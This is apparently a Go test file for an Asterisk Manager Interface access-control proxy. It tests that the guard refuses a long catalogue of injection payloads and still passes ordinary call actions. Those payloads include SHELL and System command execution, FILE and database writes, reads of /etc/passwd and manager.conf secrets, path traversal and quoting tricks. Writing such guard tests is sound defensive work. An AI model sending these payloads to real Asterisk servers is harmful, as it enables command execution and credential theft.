package access

import (
	"strings"
	"testing"

	"github.com/astproxy/astproxy/ami"
)

// attacks are ways to a program, a file or the database from an action that is about calls, each of which
// works on some Asterisk when who sends it may everything, as the proxy may. {} is what it leads to.
var attacks = []string{
	// CVE-2024-42365 and its like: dialplan functions set by an application that is none of those refused.
	"Originate|Channel: Local/1@x|Application: SET|Data: FILE(/etc/asterisk/x,,,al)=y",
	"Originate|Channel: Local/1@x|Application: Set|Data: SHELL(touch /tmp/x)=y",
	"Originate|Channel: Local/1@x|Application:  sEt |Data: DB(a/b)=y",
	"Originate|Channel: Local/1@x|Application: MSet|Data: A=1,FILE(/tmp/x)=y",
	"Originate|Channel: Local/1@x|Application: MSet|Data: A=1,GLOBAL(MONITOR_EXEC)=y",
	"Originate|Channel: Local/1@x|Application: Set|Data: FI\"LE\"(/tmp/x)=y",
	"Originate|Channel: Local/1@x|Application: Set|Data: CHANNEL(hangup_handler_push)=evil,s,1",
	"Originate|Channel: Local/1@x|Application: Set|Data: PERIODIC_HOOK(evil,s,5)=y",
	"Originate|Channel: Local/1@x|Application: Set|Data: CURL(http://x/)=/tmp/x",
	"Originate|Channel: Local/1@x|Application: Set|Data: REALTIME(a,b,c,d)=y",
	"Originate|Channel: Local/1@x|Application: Set|Data: ODBC_SALES(x)=y",
	"Originate|Channel: Local/1@x|Application: Set|Data: CUSTOM_SQL(x)=y",
	"Originate|Channel: Local/1@x|Application: Set|Data: ENV(PATH)=/tmp",
	"Originate|Channel: Local/1@x|Application: Set|Data: EXPORT(Local/2,MONITOR_EXEC)=y",
	"Originate|Channel: Local/1@x|Application: Set|Data: ${X}=y",
	"Originate|Channel: Local/1@x|Application: Set|Data: MONITOR_EXEC=touch /tmp/x",
	"Originate|Channel: Local/1@x|Application: Set|Data: __MONITOR_EXEC=touch /tmp/x",
	"Originate|Channel: Local/1@x|Application: Read|Data: FILE(/tmp/x),beep",
	"Originate|Channel: Local/1@x|Application: Read|Data: DB(a/b),beep",
	"Originate|Channel: Local/1@x|Application: Read|Data: CUSTOM_SQL(x),beep",
	// Functions that are evaluated.
	"Originate|Channel: Local/1@x|Application: NoOp|Data: ${SHELL(touch /tmp/x)}",
	"Originate|Channel: Local/1@x|Application: NoOp|Data: ${EVAL(${X})}",
	"Originate|Channel: Local/1@x|Application: NoOp|Data: ${CURL(file:///etc/passwd)}",
	"Originate|Channel: Local/1@x|Application: NoOp|Data: ${${X}}",
	"Originate|Channel: Local/1@x|Application: NoOp|Data: ${${X}${Y}(touch /tmp/x)}",
	"Originate|Channel: Local/1@x|Application: NoOp|Data: ${X}(touch /tmp/x)",
	"Originate|Channel: Local/1@x|Application: NoOp|Data: ${CUT(SHELL(touch /tmp/x),,1)}",
	"Originate|Channel: Local/1@x|Application: NoOp|Data: ${CUT(X,,1)}",
	"Originate|Channel: Local/1@x|Application: NoOp|Data: ${LEN(${X})}",
	"Originate|Channel: Local/1@x|Application: NoOp|Data: $[${SHELL(id)}]",
	"Originate|Channel: Local/1@x|Application: NoOp|Data: ${AST_CONFIG(manager.conf,admin,secret)}",
	"Originate|Channel: Local/1@x|Application: NoOp|Data: ${shell(id)}",
	"Originate|Channel: Local/1@x|Application: Verbose|Data: $\\{SHELL(id)}",
	"Originate|Channel: Local/1@x|Application: NoOp|Data: ${X",
	// Applications.
	"Originate|Channel: Local/1@x|Application: System|Data: touch /tmp/x",
	"Originate|Channel: Local/1@x|Application: TrySystem|Data: touch /tmp/x",
	"Originate|Channel: Local/1@x|Application: sYSTEM |Data: touch /tmp/x",
	"Originate|Channel: Local/1@x|Application: AGI|Data: /bin/touch,/tmp/x",
	"Originate|Channel: Local/1@x|Application: EAGI|Data: /bin/touch,/tmp/x",
	"Originate|Channel: Local/1@x|Application: DeadAGI|Data: /bin/touch,/tmp/x",
	"Originate|Channel: Local/1@x|Application: ExternalIVR|Data: /bin/touch",
	"Originate|Channel: Local/1@x|Application: MixMonitor|Data: x.wav,,touch /tmp/x",
	"Originate|Channel: Local/1@x|Application: ChanSpy|Data: PJSIP/102,qr(../../../tmp/x)",
	"Originate|Channel: Local/1@x|Application: chanspy|Data: ,r\"(\"../../../tmp/x)",
	"Originate|Channel: Local/1@x|Application: ExtenSpy|Data: 1@x,r(../../../tmp/x)",
	"Originate|Channel: Local/1@x|Application: ChanSpy|Data: ${X}",
	"Originate|Channel: Local/1@x|Application: ReadFile|Data: X=/etc/passwd,100",
	"Originate|Channel: Local/1@x|Application: DAHDIRAS|Data: /tmp/x",
	"Originate|Channel: Local/1@x|Application: ZapRAS|Data: /tmp/x",
	"Originate|Channel: Local/1@x|Application: MeetMe|Data: 1,b|Variable: MEETME_AGI_BACKGROUND=/tmp/x",
	"Setvar|Channel: Local/1@x-1;1|Variable: MEETME_AGI_BACKGROUND|Value: /tmp/x",
	"AGI|Channel: Local/1@x-1;1|Command: EXEC ChanSpy \"PJSIP,r(../../../tmp/x)\"",
	"Command|Command: channel originate Local/1@x application ChanSpy PJSIP,r(../../../tmp/x)",
	"Originate|Channel: Local/1@x|Application: Monitor|Data: wav,x,m",
	"Originate|Channel: Local/1@x|Application: MinivmNotify|Data: 1@x",
	"Originate|Channel: Local/1@x|Application: Exec|Data: System(touch /tmp/x)",
	"Originate|Channel: Local/1@x|Application: TryExec|Data: System(touch /tmp/x)",
	"Originate|Channel: Local/1@x|Application: ExecIf|Data: 1?System(touch /tmp/x)",
	"Originate|Channel: Local/1@x|Application: ExecIfTime|Data: *,*,*,*?System,touch /tmp/x",
	"Originate|Channel: Local/1@x|Application: MacroExclusive|Data: x,${SHELL(id)}",
	"Originate|Channel: Local/1@x|Application: Originate|Data: Local/2@x,app,System,touch /tmp/x",
	"Originate|Channel: Local/1@x|Application: WaitForCond|Data: @,@{@{X}}",
	"Originate|Channel: Local/1@x|Application: waitforcond |Data: @,@{@{X}}",
	"Originate|Channel: Local/1@x|Application: Queue|Data: support,,,,,/bin/touch",
	"Originate|Channel: Local/1@x|Application: Queue|Data: support,\"a,b\",,,,/bin/touch",
	"Originate|Channel: Local/1@x|Application: Queue|Data: support,t(a,b),,,,/bin/touch",
	"Originate|Channel: Local/1@x|Application: Record|Data: /etc/x.wav",
	"Originate|Channel: Local/1@x|Application: ReceiveFAX|Data: /etc/x.tif",
	"Originate|Channel: Local/1@x|Application: SendFAX|Data: /etc/x.tif",
	"Originate|Channel: Local/1@x|Application: MP3Player|Data: /etc/x",
	"Originate|Channel: Local/1@x|Application: DBdeltree|Data: a",
	"Originate|Channel: Local/1@x|Application: DBput|Data: a/b=c",
	"Originate|Channel: Local/1@x|Application: Reload|Data: x",
	"Originate|Channel: Local/1@x|Application: Gosub|Data: x,s,1(${SHELL(id)})",
	"Originate|Channel: Local/1@x|Application: Goto|Data: x,${SHELL(id)},1",
	// Variables.
	"Originate|Channel: Local/1@x|Exten: 1|Variable: FILE(/tmp/x)=y",
	"Originate|Channel: Local/1@x|Exten: 1|Variable: A=1|VARIABLE: FILE(/tmp/x)=y",
	"Originate|Channel: Local/1@x|Exten: 1|Variable: A=1,B=2,DB(a/b)=y",
	"Originate|Channel: Local/1@x|Exten: 1|Variable: FILE(/tmp/x,,,al)=y",
	"Originate|Channel: Local/1@x|Exten: 1|Variable: \"A=1\",\"FILE(/tmp/x)\"=y",
	"Originate|Channel: Local/1@x|Exten: 1|Variable: FI\\LE(/tmp/x)=y",
	"Originate|Channel: Local/1@x|Exten: 1|Variable: FILE\\(/tmp/x)=y",
	"Originate|Channel: Local/1@x|Exten: 1|Variable: A=\\(,GLOBAL(MONITOR_EXEC)=y",
	"Originate|Channel: Local/1@x|Exten: 1|Variable: A=\\(,MONITOR_EXEC=y",
	"Originate|Channel: Local/1@x|Exten: 1|Variable: MONITOR\\_EXEC=y",
	"Originate|Channel: Local/1@x|Exten: 1|Variable: A=1\\,FILE(/tmp/x)=y",
	"Originate|Channel: Local/1@x|Exten: 1|Variable: A=1|Variable: A=[1,FILE(/tmp/x)=y",
	"Originate|Channel: Local/1@x|Exten: 1|Variable: [,FILE(/tmp/x)=y",
	"Originate|Channel: Local/1@x|Exten: 1|Variable: A)=1,FILE(/tmp/x)=y",
	"Originate|Channel: Local/1@x|Exten: 1|Variable: CUSTOM_SQL(x)=y",
	"Originate|Channel: Local/1@x|Exten: 1|Variable: GLOBAL(MONITOR_EXEC)=y",
	"Originate|Channel: Local/1@x|Exten: 1|Variable: SHARED(${X})=y",
	"Originate|Channel: Local/1@x|Exten: 1|Variable: CHANNEL(hangup_handler_push)=x,s,1",
	"Originate|Channel: Local/1@x|Application: Queue|Data: support|Variable: MONITOR_EXEC=touch /tmp/x",
	"Originate|Channel: Local/1@x|Application: Queue|Data: support|Variable: _monitor_exec_args=$(touch /tmp/x)",
	"Originate|Channel: Local/1@x|Exten: 1|Variable: MEETME_RECORDINGFILE=/etc/x",
	"Originate|Channel: Local/1@x|Exten: 1|Variable: X=${SHELL(touch /tmp/x)}",
	"Originate|Channel: Local/1@x|Exten: 1|Variable: X=SHELL(touch /tmp/x)",
	// The other headers, for a dialplan that evaluates them.
	"Originate|Channel: Local/${SHELL(id)}@x|Exten: 1",
	"Originate|Channel: Local/SHELL(id)@x/n|Exten: 1",
	"Originate|Channel: Local/1@x|Exten: ${SHELL(id)}|Context: x|Priority: 1",
	"Originate|Channel: Local/1@x|Exten: 1|CallerID: ${SHELL(id)} <1>",
	"Originate|Channel: Local/1@x|Exten: 1|PreDialGoSub: x,s,1(${SHELL(id)})",
	"Originate|Channel: Local/1@x|Exten: 1|Account: ${DB(a/b)}",
	// Twice, for versions that read the last.
	"Originate|Channel: Local/1@x|Application: NoOp|Application: System|Data: touch /tmp/x",
	"Originate|Channel: Local/1@x|Application: |Application: System|Data: touch /tmp/x",
	"Originate|Channel: Local/1@x|Application: NoOp|Data: x|data: ${SHELL(id)}",

	"Setvar|Channel: x|Variable: FILE(/tmp/x)|Value: y",
	"Setvar|Variable: DB(a/b)|Value: y",
	"Setvar|Variable: MONITOR_EXEC|Value: touch /tmp/x",
	"Setvar|Variable: GLOBAL(MONITOR_EXEC)|Value: touch /tmp/x",
	"Setvar|Channel: x|Variable: ENV(PATH)|Value: /tmp",
	"Setvar|Channel: x|Variable: CHANNEL(hangup_handler_push)|Value: x,s,1",
	"Setvar|Channel: x|Variable: DEVICE_STATE(Custom:x)|Value: BUSY",
	"Setvar|Channel: x|Variable: ${X}(/tmp/x)|Value: y",
	"Setvar|Channel: x|Variable: A|Value: ${SHELL(touch /tmp/x)}",
	"Setvar|Channel: x|Variable: A|Variable: FILE(/tmp/x)|Value: y",
	"Setvar|Channel: x|Variable: CALLERID(FILE(/tmp/x))|Value: y",

	"Getvar|Variable: SHELL(touch /tmp/x)",
	"Getvar|Variable: FILE(/etc/passwd)",
	"Getvar|Variable: DB(a/b)",
	"Getvar|Variable: DB_DELETE(a/b)",
	"Getvar|Variable: CURL(file:///etc/passwd)",
	"Getvar|Variable: AST_CONFIG(manager.conf,admin,secret)",
	"Getvar|Variable: ENV(PATH)",
	"Getvar|Variable: REALTIME(a,b)",
	"Getvar|Variable: CUSTOM_SQL(x)",
	"Getvar|Variable: SET(FILE(/tmp/x)=y)",
	"Getvar|Variable: CUT(SHELL(touch /tmp/x),,1)",
	"Getvar|Variable: CUT(${URIDECODE(%53HELL(touch /tmp/x))},,1)",
	"Getvar|Variable: ${URIDECODE(%53HELL)}(x)",
	"Getvar|Variable: VM_INFO(1@x,password)",
	"Getvar|Variable: LEN(EVAL(x))",
	"Getvar|Variable: X|Variable: SHELL(id)",
	"Getvar|Variable: x(1)",
	"Status|Variables: X,FILE(/etc/passwd)",
	"Status|Variables: CHANNEL(state),DB(a/b)",
	"Status|Variables: \"X,SHELL(id)\"",

	"AGI|Channel: x|Command: EXEC System \"touch /tmp/x\"",
	"AGI|Channel: x|Command: exec  \"Sys\"tem touch",
	"AGI|Channel: x|Command: \\EXEC Set FILE(/tmp/x)=y",
	"AGI|Channel: x|Command: EXEC NoOp ${SHELL(id)}",
	"AGI|Channel: x|Command: EXEC Set ${X}(/tmp/x)=y",
	"AGI|Channel: x|Command: EXEC Read ${X},beep",
	"AGI|Channel: x|Command: SET VARIABLE FILE(/tmp/x) y",
	"AGI|Channel: x|Command: SET VARIABLE MONITOR_EXEC y",
	"AGI|Channel: x|Command: GET VARIABLE SHELL(id)",
	"AGI|Channel: x|Command: GET VARIABLE ASTPROXY_TOKEN",
	"AGI|Channel: x|Command: GET FULL VARIABLE ${SHELL(id)}",
	"AGI|Channel: x|Command: GET FULL VARIABLE ${${X}}",
	"AGI|Channel: x|Command: DATABASE PUT a b c",
	"AGI|Channel: x|Command: RECORD FILE /etc/x wav # 1",

	"Command|Command: channel originate Local/1@x application System touch /tmp/x",
	"Command|Command: CHANNEL  originate Local/1@x application Set FILE(/tmp/x)=y",
	"Command|Command: originate Local/1@x application System touch /tmp/x",
	"Command|Command: dialplan set global MONITOR_EXEC touch",
	"Command|Command: dialplan set chanvar x FILE(/tmp/x) y",
	"Command|Command: dialplan eval function SHELL(id)",
	"Command|Command: dialplan add extension 1,1,System(touch) into x",
	"Command|Command: agi exec x EXEC System touch",
	"Command|Command: database put a b c",

	"Redirect|Channel: x|Context: y|Exten: ${SHELL(id)}|Priority: 1",
	"Redirect|Channel: x|Context: y|Exten: 1|Priority: 1|ExtraExten: ${DB(a/b)}",
	"Atxfer|Channel: x|Context: y|Exten: ${${X}}",
	"BlindTransfer|Channel: x|Context: y|Exten: FILE(/tmp/x)",
	"Monitor|Channel: x|File: a\";touch /tmp/x;\"|Mix: true",
	"ChangeMonitor|Channel: x|File: $(touch /tmp/x)",
}

// everyday are actions near the attacks, and what clients do all day.
var everyday = []string{
	"Originate|Channel: PJSIP/101|Context: default|Exten: 1|Priority: 1|CallerID: \"Anna (Sales)\" <101>|Account: ACME|Async: true",
	"Originate|Channel: Local/101@default/n|Application: Playback|Data: hello-world&/var/sounds/x",
	"Originate|Channel: PJSIP/101|Application: Dial|Data: PJSIP/102&PJSIP/103,30,tTL(60000:30000)U(sub^a^b)m(default)",
	"Originate|Channel: PJSIP/101|Application: Queue|Data: support,t,,,60",
	"Originate|Channel: PJSIP/101|Application: Queue|Data: support,t,,,60,,sub",
	"Originate|Channel: PJSIP/101|Application: ConfBridge|Data: 1234,default,admin",
	"Originate|Channel: PJSIP/101|Application: ChanSpy|Data: PJSIP/102,qw",
	"Originate|Channel: PJSIP/101|Application: Gosub|Data: sub,s,1(a,b)",
	"Originate|Channel: PJSIP/101|Application: VoiceMail|Data: 101@default,u",
	"Originate|Channel: PJSIP/101|Application: NoOp|Data: ${EXTEN:1} of ${CALLERID(num)}",
	"Originate|Channel: PJSIP/101|Application: Set|Data: CALLERID(name)=Anna",
	"Originate|Channel: PJSIP/101|Exten: 1|Variable: A=1,B=(2),C=x(y)|Variable: __D=4",
	"Originate|Channel: PJSIP/101|Exten: 1|Variable: PJSIP_HEADER(add,X-Call)=1,CHANNEL(language)=de,CALLERID(num)=5",
	"Originate|Channel: PJSIP/101|Exten: 1|Variable: SIPADDHEADER=\"Call-Info: <sip:x>\\;answer-after=0\"",
	"Originate|Channel: PJSIP/101|Exten: 1|Variable: PROFILE=1,DB_NAME=x",
	"Setvar|Channel: x|Variable: A|Value: Anna (Sales) $5",
	"Setvar|Channel: x|Variable: ACME|Value: ACME(HQ)",
	"Setvar|Channel: x|Variable: CALLERID(name)|Value: Anna",
	"Setvar|Channel: x|Variable: CHANNEL(musicclass)|Value: default",
	"Setvar|Channel: x|Variable: TIMEOUT(absolute)|Value: 60",
	"Getvar|Channel: x|Variable: DIALSTATUS",
	"Getvar|Channel: x|Variable: CHANNEL(rtp,source)",
	"Getvar|Variable: QUEUE_MEMBER(sales,free)",
	"Getvar|Variable: PJSIP_CONTACT(101@@abc,uri)",
	"Status|Variables: A,CHANNEL(state),CDR(billsec,f)",
	"AGI|Channel: x|Command: EXEC Playback hello-world",
	"AGI|Channel: x|Command: SET VARIABLE A \"x (y)\"",
	"AGI|Channel: x|Command: GET VARIABLE CHANNEL(state)",
	"AGI|Channel: x|Command: ASYNCAGI BREAK",
	"Command|Command: core show channels",
	"Command|Command: core show function SHELL",
	"Command|Command: channel originate Local/1@x extension 1@x",
	"Command|Command: channel originate Local/1@x application Playback hello-world",
	"Command|Command: database show",
	"Redirect|Channel: x|Context: y|Exten: 1|Priority: 1",
	"Monitor|Channel: x|File: 2026/11/call_1-x.y|Mix: true",
	"UserEvent|UserEvent: x|Command: ${SHELL(id)} System FILE(/tmp/x)",
	"MessageSend|To: pjsip:101|Body: ${SHELL(id)}",
}

//astproxy:attack
func TestEveryKnownWayToAProgramAFileOrTheDatabaseNeedsSystem(t *testing.T) {
	user := userWith(t, UserConfig{Write: []string{"call", "originate", "reporting", "command", "user", "dialplan", "message"}})
	agi := userWith(t, UserConfig{Write: []string{"agi"}})
	system := userWith(t, UserConfig{Write: []string{"all"}})
	for _, attack := range attacks {
		action := act(attack)
		by := user
		if action.Action() == "AGI" {
			by = agi
		}
		d := judge(by, action)
		if d.Allowed || d.By != "guard" || d.Why == "" || d.Answer == "" {
			t.Errorf("%s: %+v", attack, d)
		}
		if d := judge(system, action); !d.Allowed && !strings.Contains(d.Why, "twice") {
			t.Errorf("%s: of who has class system: %+v", attack, d)
		}
	}
}

func TestTheGuardLetsEverydayActionsPass(t *testing.T) {
	user := userWith(t, UserConfig{Write: []string{"call", "originate", "reporting", "command", "user", "agi", "message"}})
	for _, action := range everyday {
		if d := judge(user, act(action)); !d.Allowed {
			t.Errorf("%s: %+v", action, d)
		}
	}
}

// The guard answers as Asterisk 22 where that refuses, too.
func TestTheGuardHasAsterisksWords(t *testing.T) {
	user := userWith(t, UserConfig{Write: []string{"call", "originate"}})
	for action, want := range map[string]string{
		"Originate|Channel: Local/1@x|Application: System|Data: x":        "Originate Access Forbidden: app or data blacklisted",
		"Originate|Channel: Local/1@x|Application: Playback|Data: MYFILE": "Originate Access Forbidden: app or data blacklisted",
		"Getvar|Variable: SHELL(id)":                                      "GetVar Access Forbidden: Variable",
		"Status|Variables: EVAL(x)":                                       "Status Access Forbidden: Variables",
		"Setvar|Variable: FILE(/tmp/x)|Value: 1":                          "Permission denied",
		"Setvar|Variable: A|Variable: B|Value: 1":                         "Header Variable is given more than once",
	} {
		if d := judge(user, act(action)); d.Answer != want {
			t.Errorf("%s: %+v", action, d)
		}
	}
}

// Who has class agi may have a queue run a script, as in Asterisk.
func TestAQueueRunsAScriptForWhoHasClassAGI(t *testing.T) {
	queue := act("Originate|Channel: Local/1@x|Application: Queue|Data: support,,,,,script")
	if d := judge(userWith(t, UserConfig{Write: []string{"originate", "agi"}}), queue); !d.Allowed {
		t.Errorf("got %+v", d)
	}
}

func TestTheGuardIsOpenedByName(t *testing.T) {
	base := UserConfig{Write: []string{"originate", "call", "reporting"}}
	with := func(change func(*UserConfig)) *User {
		c := base
		change(&c)
		return userWith(t, c)
	}
	functions := with(func(c *UserConfig) { c.AllowFunctions = []string{"DB", "ODBC_*", "MONITOR_FILENAME"} })
	applications := with(func(c *UserConfig) { c.AllowApplications = []string{"mixmonitor", "Min*"} })
	rule := with(func(c *UserConfig) {
		c.Rules = []RuleConfig{
			{Action: "Originate", Headers: map[string][]string{"Channel": {"*"}, "Application": {"AGI", "*Fax"}, "Data": {"agi://host/${SHELL(id)}", "x*"}}},
			{Action: "Setvar", Headers: map[string][]string{"Variable": {"DB(a/b)", "DB(a/d)*", "*"}, "Value": {"*"}}},
			{Action: "Originate", Headers: map[string][]string{"Channel": {"*"}, "Exten": {"1"}, "Variable": {"FILE(/tmp/x)=1", "*"}}},
		}
	})
	const call = "Originate|Channel: Local/1@x|"
	for _, test := range []struct {
		user    *User
		action  string
		allowed bool
	}{
		{functions, "Getvar|Variable: DB(a/b)", true},
		{functions, "Getvar|Variable: DB_DELETE(a/b)", false},
		{functions, "Getvar|Variable: odbc_SALES(x)", true},
		{functions, "Getvar|Variable: DB(${X})", false},
		{functions, "Setvar|Variable: DB(a/b)|Value: 1", true},
		{functions, "Setvar|Variable: MONITOR_FILENAME|Value: 1", true},
		{functions, "Setvar|Variable: MONITOR_EXEC|Value: 1", false},
		{functions, call + "Application: Set|Data: DB(a/b)=1", true},
		{functions, call + "Application: Set|Data: FILE(a/b)=1", false},
		{functions, call + "Exten: 1|Variable: DB(a/b)=1", true},
		{functions, call + "Application: System|Data: x", false},
		{applications, call + "Application: MixMonitor|Data: x.wav", true},
		{applications, call + "Application: MINIVMNOTIFY|Data: x", true},
		{applications, call + "Application: MixMonitor|Data: ${SHELL(id)}", false},
		{applications, call + "Application: System|Data: x", false},
		{applications, "Getvar|Variable: DB(a/b)", false},
		{rule, call + "Application: agi|Data: x", true},
		{rule, call + "Application: AGI|Data: agi://host/${SHELL(id)}", true},
		{rule, call + "Application: AGI|Data: x${SHELL(id)}", false},
		{rule, call + "Application: SendFax|Data: x", false}, // the wildcard names none
		{rule, "Setvar|Variable: DB(a/b)|Value: 1", true},
		{rule, "Setvar|Variable: DB(a/c)|Value: 1", false},
		{rule, "Setvar|Variable: DB(a/d)|Value: 1", false},
		{rule, call + "Exten: 1|Variable: FILE(/tmp/x)=1", true},
		{rule, call + "Exten: 1|Variable: FILE(/tmp/y)=1", false},
	} {
		if d := judge(test.user, act(test.action)); d.Allowed != test.allowed {
			t.Errorf("%s: %+v", test.action, d)
		}
	}
}

// However quotes, commas and the rest are put around it, a dangerous function is not handed to an
// application or to variables.
//
//astproxy:attack
func FuzzTheGuardFindsFunctionsHoweverTheyAreWritten(f *testing.F) {
	f.Add("${", "id)}")
	f.Add("A=1,", "/tmp/x)=1")
	f.Add(`"A=(1,`, `id)`)
	users, err := NewUsers([]UserConfig{{Name: "anna", Secret: "x", Write: []string{"call", "originate"}}})
	if err != nil {
		f.Fatal(err)
	}
	user, _ := users.Authenticate("anna", "x")
	f.Fuzz(func(t *testing.T, before, after string) {
		if strings.ContainsAny(before+after, "\r\n\x00") || nameBefore(unescaped.Replace(before)) != "" {
			return // no line, or the name of another function
		}
		for _, name := range []string{"SHELL", "FILE", "DB", "CURL", "REALTIME_STORE", "S\"HE\\LL"} {
			for _, header := range []string{"Data", "Variable"} {
				m := ami.NewAction("Originate").Add("Channel", "Local/1@x").Add("Application", "Set").Add(header, before+name+"("+after).Message()
				if d := judge(user, m); d.Allowed {
					t.Errorf("%s passes", m)
				}
			}
		}
	})
}
